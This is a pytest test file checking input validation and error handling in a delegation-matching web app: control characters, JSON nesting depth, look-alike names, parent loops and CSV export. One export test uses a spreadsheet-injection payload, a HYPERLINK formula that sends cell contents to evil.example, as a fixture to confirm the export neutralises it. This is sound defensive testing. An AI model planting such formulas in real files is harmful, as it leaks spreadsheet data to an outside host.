"""Input every database stores, and errors every client can read: never a 500."""

import json
import re

import pytest
from sqlmodel import func, select

from matcher.models import Delegation, Organisation

from .test_api import bearer, registration
from .test_intake import valid_form

HEADER = "name,kind,city,sectors,description,parent\n"


def count(session, model) -> int:
    session.expire_all()
    return session.exec(select(func.count()).select_from(model)).one()


def test_405_says_which_methods_are_allowed(sample_directory, client):
    api = client.get("/api/v1/matches/1/decision")
    assert api.status_code == 405 and "POST" in api.headers["Allow"]
    assert set(api.get_json()) == {"error", "detail", "fields"}
    page = client.get("/logout")
    assert page.status_code == 405 and "POST" in page.headers["Allow"]


@pytest.mark.parametrize("field", ["delegation_name", "contact_name", "offers", "contact_phone"])
def test_nul_in_a_form_field_is_shown_beside_it_and_stores_nothing(
    sample_directory, client, csrf_token, session, field
):
    data = valid_form(**{field: "Cairo\x00Chamber"})
    data["csrf_token"] = csrf_token("/interest")
    answer = client.post("/interest", data=data)
    # The form comes back with the error beside the field and everything else as typed.
    assert answer.status_code == 200
    page = answer.get_data(as_text=True)
    error = re.search(rf'id="{field}-error">([^<]*)<', page)
    assert error and "control characters" in error.group(1)
    assert "Cairo\x00Chamber" in page or "Cairo\ufffdChamber" in page
    assert data["seeks"] in page
    assert count(session, Delegation) == 0


def test_nul_in_the_api_and_the_public_search_is_refused(sample_directory, client, session):
    answer = client.post("/api/v1/delegations", json=registration(name="Lima\u0000Chamber"))
    assert answer.status_code == 400
    assert answer.get_json()["fields"] == {
        "name": ["control characters (such as NUL) are not accepted"]
    }
    search = client.get("/organisations?q=drone%00s")
    assert search.status_code == 200
    assert re.search(r'id="q-error">[^<]*control characters', search.get_data(as_text=True))
    assert client.get("/api/v1/organisations/search?text=drone%00").status_code == 400
    assert client.get("/organisations?q=drones").status_code == 200
    assert count(session, Delegation) == 0


def test_a_rejection_reason_longer_than_its_column_is_refused(
    sample_directory, client, api_token, make_delegation
):
    delegation_id = make_delegation()
    found = client.get(f"/api/v1/matches?delegation_id={delegation_id}", headers=bearer(api_token))
    match = found.get_json()["items"][0]
    decision = {"action": "reject", "revision": match["revision"], "text": "x" * 301}
    answer = client.post(
        f"/api/v1/matches/{match['id']}/decision", json=decision, headers=bearer(api_token)
    )
    assert answer.status_code == 422
    assert "at most 300 characters" in answer.get_json()["detail"]
    decision["text"] = "x" * 300
    assert (
        client.post(
            f"/api/v1/matches/{match['id']}/decision", json=decision, headers=bearer(api_token)
        ).status_code
        == 200
    )


def test_json_nested_a_thousand_deep_is_a_400(sample_directory, client):
    body = "[" * 1000 + "]" * 1000
    answer = client.post(
        "/api/v1/delegations", data=body, headers={"Content-Type": "application/json"}
    )
    assert answer.status_code == 400
    assert "nested deeper" in answer.get_json()["detail"]


@pytest.mark.parametrize(
    "name",
    [
        "EXAMPLE SPEECH LAB",
        "ＥＸＡＭＰＬＥ ＳＰＥＥＣＨ ＬＡＢ",
        "Exаmple Speech Lаb",
        "Example Speech Lab\u200b",
        "E\u200dXAMPLE SPEECH LAB",
    ],
)
def test_variants_of_an_existing_name_are_refused(
    sample_directory, runner, session, tmp_path, name
):
    path = tmp_path / "variant.csv"
    path.write_text(HEADER + f"{name},company,hefei,,x,\n", encoding="utf-8")
    before = count(session, Organisation)
    result = runner.invoke(args=["import", str(path)])
    assert result.exit_code == 1, result.output
    assert ":2: name:" in result.output
    assert count(session, Organisation) == before


def test_a_parent_loop_is_refused_with_the_names(sample_directory, runner, session, tmp_path):
    path = tmp_path / "loop.json"
    organisations = [
        {"name": "Loop Park A", "kind": "park", "city": "hefei", "parent": "Loop Park B"},
        {"name": "Loop Park B", "kind": "park", "city": "hefei", "parent": "Loop Park A"},
    ]
    path.write_text(json.dumps({"organisations": organisations}), encoding="utf-8")
    before = count(session, Organisation)
    result = runner.invoke(args=["import", str(path)])
    assert result.exit_code == 1, result.output
    assert "Loop Park A → Loop Park B → Loop Park A" in result.output
    assert "Traceback" not in result.output
    assert count(session, Organisation) == before


def test_the_csv_export_neutralises_formulas_and_imports_back(
    sample_directory, sample_administrator, client, runner, session, tmp_path
):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    path = tmp_path / "formula.csv"
    path.write_text(HEADER + f'"{formula.replace(chr(34), chr(34) * 2)}",company,hefei,,x,\n')
    assert runner.invoke(args=["import", str(path)]).exit_code == 0
    exported = client.get("/coordinator/organisations/export.csv").get_data(as_text=True)
    assert "\n=" not in exported and ",=" not in exported
    assert "'=HYPERLINK" in exported
    again = tmp_path / "again.csv"
    again.write_text(exported, encoding="utf-8")
    result = runner.invoke(args=["import", "--update", str(again)])
    assert result.exit_code == 0, result.output
    names = set(session.exec(select(Organisation.name)))
    assert formula in names and "'" + formula not in names


@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b", "\x7f"])
def test_control_characters_in_the_organisation_form_are_shown_beside_the_field(
    administrator, client, csrf_token, session, character
):
    typed = f"Robot arms{character}for electronics assembly."
    form = {
        "csrf_token": csrf_token("/coordinator/organisations/new"),
        "name": "Songjiang Robotics Works",
        "kind": "company",
        "city": "songjiang",
        "description": typed,
        "offers": "Contract assembly lines.",
        "hosts_delegations": "",
    }
    before = count(session, Organisation)
    answer = client.post("/coordinator/organisations/new", data=form)
    assert answer.status_code == 200
    page = answer.get_data(as_text=True)
    assert re.search(r'id="description-error">[^<]*control characters', page)
    assert "Contract assembly lines." in page and "Songjiang Robotics Works" in page
    assert count(session, Organisation) == before
